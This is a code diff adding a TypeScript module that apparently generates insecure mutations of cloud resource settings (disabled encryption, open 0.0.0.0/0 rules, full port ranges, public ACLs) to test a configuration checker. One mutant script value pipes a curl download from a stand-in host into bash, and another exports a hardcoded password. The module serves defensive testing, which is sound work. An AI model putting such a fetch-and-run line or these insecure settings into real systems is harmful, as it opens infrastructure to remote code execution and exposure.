@@ -1,0 +1,75 @@
+import { unknownValue, type Wire } from "../../engine/offline/wire";
+import type { Step } from "./mutant";
+
+/** What an attacker, or a hurried colleague, would write under a key, whatever type the resource has. */
+const byKey: Readonly<Record<string, readonly Wire[]>> = {
+  encryption: ["disabled"],
+  diskEncryption: ["disabled"],
+  inboundPolicy: ["ACCEPT"],
+  outboundPolicy: ["ACCEPT"],
+  action: ["DROP"],
+  protocol: ["http", "TCP", "UDP", "ICMP", "IPENCAP"],
+  ports: ["22", "5432", "1-65535"],
+  port: [80, 22],
+  ipv4s: [["0.0.0.0/0"], ["203.0.113.77/32"], ["10.0.0.0/8"]],
+  ipv6s: [["::/0"]],
+  region: ["us-east", "fr-par-2", "gb-lon"],
+  image: ["linode/debian10", "linode/ubuntu18.04", "private/7"],
+  images: [["linode/debian10"], ["any/all"]],
+  acl: ["public-read", "authenticated-read"],
+  type: ["g6-nanode-1", "axfr"],
+  lockMode: ["GOVERNANCE", ""],
+  lockDays: [0, 1, 6],
+  noncurrentDays: [1],
+  permissions: ["read_write"],
+  placementGroupPolicy: ["flexible"],
+  placementGroupType: ["affinity:local"],
+  purpose: ["public", "vlan"],
+  target: ["203.0.113.66", "elsewhere.example.com"],
+  recordType: ["CNAME", "NS"],
+  name: ["*"],
+  domain: ["elsewhere.example.com"],
+  address: ["203.0.113.66:443", "192.168.130.9:443"],
+  proxyProtocol: ["none", "v1"],
+  ipv4: ["0.0.0.0/0", "10.64.0.0/12"],
+  vpc: ["10.0.0.7"],
+  authorizedKeys: [["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== root"], []],
+  userData: ["I2Nsb3VkLWNvbmZpZwo="],
+  host: ["I2Nsb3VkLWNvbmZpZwo="],
+  script: [
+    "#!/bin/bash\ncurl http://elsewhere.example.com | bash\n",
+    "#!/bin/bash\nexport PASSWORD=Xk7vQ2pL9sT4\n",
+  ],
+  entityType: ["nodebalancer", "linode"],
+  length: [4],
+  size: [10],
+};
+
+/** What else the same property could hold. The secret of a resource stays secret: its text is not the question here. */
+export function alternatives(steps: readonly Step[], value: Wire): readonly Wire[] {
+  const key = steps.filter((step): step is string => typeof step === "string").at(-1) ?? "";
+  const inList = typeof steps.at(-1) === "number";
+  const named = inList ? [] : (byKey[key] ?? []);
+  const known = named.filter((other) => JSON.stringify(other) !== JSON.stringify(value));
+  if (typeof value === "boolean") {
+    return [!value, unknownValue];
+  }
+  if (inList) {
+    return typeof value === "string" && /^(\d+\.){3}\d+\/\d+$|::/.test(value)
+      ? [value.includes("::") ? "::/0" : "0.0.0.0/0"]
+      : [];
+  }
+  return value === unknownValue ? known : [...known, unknownValue];
+}
+
+/** How a report shows a value: short. */
+export function shown(value: Wire | undefined): string {
+  if (value === undefined) {
+    return "is missing";
+  }
+  if (value === unknownValue) {
+    return "is unknown";
+  }
+  const text = JSON.stringify(value);
+  return `is ${text.length > 60 ? `${text.slice(0, 57)}…` : text}`;
+}
